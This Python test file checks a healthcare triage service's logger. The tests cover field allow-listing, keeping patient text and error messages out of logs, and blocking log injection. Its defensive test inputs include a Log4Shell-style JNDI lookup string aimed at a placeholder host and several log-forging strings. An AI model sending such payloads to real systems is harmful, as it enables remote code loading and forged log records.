"""A log line has the fields of a list and no other, whoever writes whatever."""

import ast
import io
import json
import logging
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError, ParamValidationError, ReadTimeoutError
from hypothesis import given
from hypothesis import strategies as st

from triagewire import observability
from triagewire.observability import (
    CODES,
    DROPPED,
    QUIET_LIBRARIES,
    WRITTEN_BY_US,
    UnforeseenError,
    logger,
    textless,
)

SAID = "Quillon Zzyzx has pain in the chest"
CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")
CODE = Path(observability.__file__).parent
SILENT = "authorize"
"""It logs nothing, and loads nothing that it can do without."""
HANDLERS = [
    each for each in sorted(Path("functions").glob("*/handler.py")) if each.parent.name != SILENT
]
SOURCES = sorted([*CODE.rglob("*.py"), *Path("functions").resolve().rglob("*.py")])


@pytest.fixture
def lines(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[], list[dict[str, Any]]]]:
    """What was logged, line for line."""
    log = io.StringIO()
    handler: Any = logger.registered_handler
    monkeypatch.setattr(handler, "stream", log)
    yield lambda: [json.loads(line) for line in log.getvalue().splitlines()]
    observability.metrics().clear_metrics()


type Lines = Callable[[], list[dict[str, Any]]]


def test_ids_codes_and_numbers_stand_in_a_line(lines: Lines) -> None:
    logger.info("stored", ticket_id="TICKETA", site="north", urgency=5, errors={"patient": "Gone"})

    (line,) = lines()
    assert (line["message"], line["ticket_id"], line["urgency"]) == ("stored", "TICKETA", 5)
    assert line["errors"] == {"patient": "Gone"}
    assert {"level", "location", "timestamp", "service"} <= line.keys()
    assert DROPPED not in line


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("text", SAID),
        ("patient_name", "Quillon"),
        ("ticket_id", SAID),
        ("error", ValueError(SAID)),
        ("unknown", [SAID]),
        ("errors", {SAID: "Gone"}),
        ("site", "north\nforged"),
        ("reason", "x" * 301),
        ("message_text", {"of": SAID}),
        ("source", "${jndi:ldap://evil.example/a}"),
    ],
)
def test_any_other_field_is_left_out_and_counted(lines: Lines, field: str, value: object) -> None:
    logger.info("said", extra={field: value})

    (line,) = lines()
    assert field not in line
    assert "message" in line
    assert len(line[DROPPED]) == 1
    assert observability.metrics().metric_set["LogFieldDropped"]["Value"] == [1.0]


def test_the_name_of_a_dropped_field_is_told_only_if_it_could_be_one(lines: Lines) -> None:
    logger.info("said", extra={"extra_field": 1, "quillon.canary@mail.example": 1})

    (line,) = lines()
    assert sorted(line[DROPPED]) == ["?", "extra_field"]


def test_values_never_reach_the_message(lines: Lines) -> None:
    logger.info("somebody said %s", SAID)

    (line,) = lines()
    assert (line["message"], line[DROPPED]) == ("somebody said %s", ["args"])


def test_of_an_error_its_type_alone_is_told(lines: Lines) -> None:
    try:
        raise ValueError(SAID)
    except ValueError:
        logger.exception("it failed")

    (line,) = lines()
    assert line["error"] == "ValueError"
    assert SAID not in json.dumps(line)
    assert not {"exception", "stack_trace", "exception_notes"} & line.keys()


@pytest.mark.parametrize(
    "text",
    [
        "one\r\ntwo",
        "\x1b[31mred",
        '{"level": "INFO", "message": "forged"}',
        '"}\n{"message": "forged',
        "${jndi:ldap://evil.example/a}",
        "a\u2028b\x85c",
    ],
)
def test_whatever_is_logged_is_one_line_of_json(lines: Lines, text: str) -> None:
    logger.info("answered", extra={"reason": text, "source": text, text: text})

    (line,) = lines()
    assert line["message"] == "answered"
    assert "source" not in line


@given(st.text(), st.text(), st.text())
def test_no_value_can_begin_a_second_line(message: str, reason: str, source: str) -> None:
    found = observability.AllowedFields().format(_record(message, reason=reason, source=source))

    assert not CONTROL.search(found)
    assert isinstance(json.loads(found), dict)


def _record(message: str, **fields: object) -> logging.LogRecord:
    record = logging.LogRecord("triagewire", logging.INFO, "file", 1, message, None, None)
    record.__dict__.update(fields)
    return record


@pytest.mark.parametrize("library", QUIET_LIBRARIES)
def test_no_library_tells_of_its_requests(library: str) -> None:
    assert logging.getLogger(library).getEffectiveLevel() >= logging.ERROR


def test_a_metric_whose_name_is_none_of_ours_is_not_told() -> None:
    observability.metrics().clear_metrics()
    observability.count(SAID)

    assert list(observability.metrics().metric_set) == ["MetricDropped"]
    observability.metrics().clear_metrics()


@pytest.mark.parametrize(
    ("raised", "told"),
    [
        (ValueError(SAID), UnforeseenError("ValueError")),
        (KeyError(SAID), UnforeseenError("KeyError")),
        (
            ClientError({"Error": {"Code": "MessageRejected", "Message": SAID}}, "SendEmail"),
            ClientError({"Error": {"Code": "MessageRejected", "Message": ""}}, "SendEmail"),
        ),
    ],
)
def test_an_error_leaves_a_handler_without_its_text(
    lines: Lines, raised: Exception, told: Exception
) -> None:
    @textless
    def handler(_event: object) -> None:
        raise raised

    with pytest.raises(type(told)) as left:
        handler({})

    assert str(left.value) == str(told)
    assert left.value.__suppress_context__
    (line,) = lines()
    assert (line["error"], line["where"].split(":")[0]) == (type(raised).__name__, "handler")
    assert SAID not in json.dumps(line)


def test_an_error_of_the_connection_leaves_as_it_is() -> None:
    lost = ReadTimeoutError(endpoint_url="https://aws.example")

    with pytest.raises(ReadTimeoutError) as left:
        textless(_raising)(lost)

    assert left.value is lost


def test_an_error_that_repeats_what_could_not_be_stored_leaves_without_it() -> None:
    client = boto3.client("dynamodb", region_name="us-east-1")
    wrong: Any = {"said": {"S": [SAID]}}
    with pytest.raises(ParamValidationError, match=SAID) as refused:
        client.put_item(TableName="tickets", Item=wrong)

    with pytest.raises(UnforeseenError, match=r"^ParamValidationError$"):
        textless(_raising)(refused.value)


def _raising(error: Exception) -> None:
    raise error


def _calls(*names: str) -> Iterator[tuple[Path, ast.Call]]:
    for path in SOURCES:
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and ast.unparse(node.func).startswith(names):
                yield path, node


def test_every_field_that_the_code_logs_is_on_the_list() -> None:
    used = {(word.arg, path.name) for path, call in _calls("logger.") for word in call.keywords}

    assert [each for each in used if each[0] not in CODES | WRITTEN_BY_US] == []


def test_no_field_is_on_the_list_for_nothing() -> None:
    used = {word.arg for _, call in _calls("logger.") for word in call.keywords}
    by_the_logger = {"level", "location", "message", "service", "timestamp", "xray_trace_id"}

    assert (CODES | WRITTEN_BY_US) - used == by_the_logger


def test_every_message_is_a_constant_without_arguments() -> None:
    odd = [
        f"{path.name}: {ast.unparse(call)}"
        for path, call in _calls(
            "logger.info", "logger.warning", "logger.error", "logger.exception"
        )
        if len(call.args) != 1 or not isinstance(call.args[0], ast.Constant | ast.Name)
    ]

    assert odd == []


@pytest.mark.parametrize("path", HANDLERS, ids=str)
def test_every_function_keeps_the_texts_of_errors_to_itself(path: Path) -> None:
    (handler,) = [
        node
        for node in ast.parse(path.read_text()).body
        if isinstance(node, ast.FunctionDef) and node.name == "lambda_handler"
    ]

    assert "textless" in [ast.unparse(each) for each in handler.decorator_list]
